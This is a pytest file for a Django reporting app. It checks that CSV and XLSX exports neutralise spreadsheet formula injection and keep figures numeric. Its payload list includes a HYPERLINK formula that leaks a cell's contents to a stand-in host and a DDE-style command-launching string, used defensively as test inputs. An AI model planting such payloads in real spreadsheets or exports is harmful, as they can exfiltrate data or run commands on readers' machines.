"""Report exports never hand a spreadsheet a formula (OWASP "CSV injection"): text that
starts like a formula is written with a leading apostrophe, figures stay numbers."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Case
from reports.figures import Scope, all_tables

pytestmark = pytest.mark.django_db
PERIOD = {"start": "2020-01-01", "end": "2030-12-31"}
PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Riga")',
    "@SUM(A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _keys(demo):
    scope = Scope(
        [demo.municipalities["RIX"]], datetime.date(2020, 1, 1), datetime.date(2030, 1, 1)
    )
    return [table.key for table in all_tables(scope)]


def _csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _plant(demo, payload):
    riga = demo.municipalities["RIX"]
    riga.name = payload
    riga.save(update_fields=["name"])


def _neutralised(cells_csv, cells_xlsx, payload, where):
    found = {"csv": 0, "xlsx": 0}
    for cell in cells_csv:
        assert not cell.startswith(TRIGGERS), (where, cell)
        found["csv"] += cell == "'" + payload
    for cell in cells_xlsx:
        assert cell.data_type != "f", (where, cell.value)
        if cell.data_type == "s":
            assert not cell.value.startswith(TRIGGERS), (where, cell.value)
            # XML reads a carriage return back as a line feed.
            found["xlsx"] += cell.value == "'" + payload.replace("\r", "\n")
    return found


@pytest.mark.parametrize("username", ["coord.riga", "national.lv"])
def test_a_formula_in_a_municipality_name_is_neutralised_in_every_export(
    demo, client_for, username
):
    payload = PAYLOADS[0]
    _plant(demo, payload)
    client = client_for(demo.users[username])
    total = {"csv": 0, "xlsx": 0}
    for key in _keys(demo):
        found = _neutralised(
            _csv_cells(client.get(reverse("report_export", args=[key, "csv"]), PERIOD)),
            _xlsx_cells(client.get(reverse("report_export", args=[key, "xlsx"]), PERIOD)),
            payload,
            key,
        )
        total = {fmt: total[fmt] + found[fmt] for fmt in total}
    # Riga's row is in the tables by municipality (status, referrals, declines, needs).
    assert total["csv"] >= 4 and total["xlsx"] >= 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(demo, client_for, payload):
    _plant(demo, payload)
    client = client_for(demo.users["coord.riga"])
    found = _neutralised(
        _csv_cells(client.get(reverse("report_export", args=["status", "csv"]), PERIOD)),
        _xlsx_cells(client.get(reverse("report_export", args=["status", "xlsx"]), PERIOD)),
        payload,
        "status",
    )
    assert found == {"csv": 1, "xlsx": 1}


def test_figures_stay_numbers_in_the_spreadsheet(demo, client_for):
    client = client_for(demo.users["coord.riga"])
    response = client.get(reverse("report_export", args=["status", "xlsx"]), PERIOD)
    sheet = load_workbook(io.BytesIO(response.content)).active
    total = sheet.cell(row=3, column=sheet.max_column)
    assert total.data_type == "n"
    assert total.value == Case.objects.filter(municipality__code="RIX").count()
    text = client.get(reverse("report_export", args=["status", "csv"]), PERIOD).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][-1] == str(total.value)
